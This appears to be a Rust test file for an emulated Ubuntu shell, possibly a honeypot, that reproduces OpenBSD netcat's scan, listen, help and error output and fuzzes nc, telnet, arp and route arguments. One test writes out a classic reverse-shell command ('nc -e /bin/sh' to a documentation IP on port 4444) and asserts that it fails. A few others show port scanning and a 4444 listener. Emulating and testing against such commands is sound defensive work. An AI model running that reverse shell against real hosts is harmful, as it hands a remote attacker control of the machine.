//! Expected texts are netcat-openbsd 1.218-4ubuntu1's (`netcat.c` `help()`, `usage()` and
//! the `-v` reports). The fixed host listens on 0.0.0.0:22, [::]:22 and 127.0.0.53:53.

use crate::shell::commands::testing::{run_as, run_status};

#[test]
fn open_ports_are_the_profiles_listeners() {
    assert_eq!(
        run_status("nc -zv 127.0.0.1 22"),
        (
            "Connection to 127.0.0.1 22 port [tcp/ssh] succeeded!\n".to_owned(),
            0
        )
    );
    assert_eq!(
        run_status("nc -zv localhost 22"),
        (
            "Connection to localhost (127.0.0.1) 22 port [tcp/ssh] succeeded!\n".to_owned(),
            0
        )
    );
    assert_eq!(
        run_status("nc -vz 127.0.0.53 53"),
        (
            "Connection to 127.0.0.53 53 port [tcp/domain] succeeded!\n".to_owned(),
            0
        )
    );
    assert_eq!(
        run_status("nc -zv 127.0.0.1 53"),
        (
            "nc: connect to 127.0.0.1 port 53 (tcp) failed: Connection refused\n".to_owned(),
            1
        )
    );
    assert_eq!(
        run_status("nc -zv 127.0.0.1 3306"),
        (
            "nc: connect to 127.0.0.1 port 3306 (tcp) failed: Connection refused\n".to_owned(),
            1
        )
    );
    // Without -v, openbsd nc says nothing either way.
    assert_eq!(run_status("nc -z 127.0.0.1 3306"), (String::new(), 1));
    assert_eq!(run_status("nc -z 127.0.0.1 22"), (String::new(), 0));
    // Nothing outside answers.
    assert_eq!(
        run_status("nc -zv 93.184.216.34 80"),
        (
            "nc: connect to 93.184.216.34 port 80 (tcp) failed: Connection refused\n".to_owned(),
            1
        )
    );
    // A scan reports each port.
    assert_eq!(
        run_status("nc -zv 127.0.0.1 21-23"),
        (
            "nc: connect to 127.0.0.1 port 21 (tcp) failed: Connection refused\n\
             Connection to 127.0.0.1 22 port [tcp/ssh] succeeded!\n\
             nc: connect to 127.0.0.1 port 23 (tcp) failed: Connection refused\n"
                .to_owned(),
            0
        )
    );
}

#[test]
fn sshd_greets_a_plain_connection() {
    let (out, status) = run_status("echo hello | nc 127.0.0.1 22");
    assert_eq!(status, 0);
    assert!(out.starts_with("SSH-2.0-OpenSSH_"), "{out}");
    assert!(
        out.ends_with("\r\nInvalid SSH identification string.\r\n"),
        "{out}"
    );
}

#[test]
fn usage_help_and_errors() {
    let usage = "usage: nc [-46CDdFhklNnrStUuvZz] [-I length] [-i interval] [-M ttl]\n\
                 \t  [-m minttl] [-O length] [-P proxy_username] [-p source_port]\n\
                 \t  [-q seconds] [-s sourceaddr] [-T keyword] [-V rtable] [-W recvlimit]\n\
                 \t  [-w timeout] [-X proxy_protocol] [-x proxy_address[:port]]\n\
                 \t  [destination] [port]\n";
    assert_eq!(run_status("nc"), (usage.to_owned(), 1));
    assert_eq!(run_status("nc 1.2.3.4"), (usage.to_owned(), 1));
    // Debian's nc has no -e: the classic reverse shell fails.
    assert_eq!(
        run_status("nc -e /bin/sh 203.0.113.9 4444"),
        (format!("nc: invalid option -- 'e'\n{usage}"), 1)
    );
    let (help, status) = run_status("nc -h");
    assert_eq!(status, 1);
    assert!(help.starts_with(&format!(
        "OpenBSD netcat (Debian patchlevel 1.218-4ubuntu1)\n{usage}\tCommand Summary:\n\t\t-4\t\tUse IPv4\n"
    )));
    assert!(help.ends_with(
        "\t\t-z\t\tZero-I/O mode [used for scanning]\n\tPort numbers can be individual or ranges: lo-hi [inclusive]\n"
    ));
    assert_eq!(
        run_status("nc -zv nosuchhost 80").0,
        "nc: getaddrinfo for host \"nosuchhost\" port 80: Name or service not known\n"
    );
    assert_eq!(
        run_status("nc -zv 127.0.0.1 99999"),
        ("nc: port number too large: 99999\n".to_owned(), 1)
    );
    assert_eq!(
        run_status("nc -zv 127.0.0.1 ssh-ish"),
        ("nc: service \"ssh-ish\" unknown\n".to_owned(), 1)
    );
    assert_eq!(
        run_status("nc -zv 127.0.0.1 ssh").0,
        "Connection to 127.0.0.1 22 port [tcp/ssh] succeeded!\n"
    );
}

#[test]
fn listening() {
    assert_eq!(
        run_status("nc -lvnp 4444"),
        ("Listening on 0.0.0.0 4444\n".to_owned(), 130)
    );
    assert_eq!(
        run_status("nc -lp 22"),
        ("nc: Address already in use\n".to_owned(), 1)
    );
    let outcome = run_as("ubuntu", "nc -l 80");
    assert_eq!(
        (
            String::from_utf8_lossy(&outcome.output).into_owned(),
            outcome.status
        ),
        ("nc: Permission denied\n".to_owned(), 1)
    );
}

use proptest::strategy::Strategy as _;

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(48))]
    /// Attackers type anything: no argument soup makes `nc, telnet, arp, route` panic.
    #[test]
    fn argument_soup_never_panics(
        words in proptest::collection::vec(
            proptest::prop_oneof![
                proptest::sample::select(vec!["-z", "-v", "-l", "-p", "-u", "-n", "127.0.0.1", "22", "1-65535", "localhost", "-e", "ssh"]).prop_map(str::to_owned),
                "[ -~]{0,12}",
            ],
            0..6,
        ),
        which in 0usize..4,
    ) {
        let command = ["nc", "telnet", "arp", "route"][which];
        let line = format!("{command} {}", words.iter().map(|w| format!("'{}'", w.replace('\'', ""))).collect::<Vec<_>>().join(" "));
        let (_, status) = run_status(&line);
        proptest::prop_assert!((0..=255).contains(&status));
    }
}
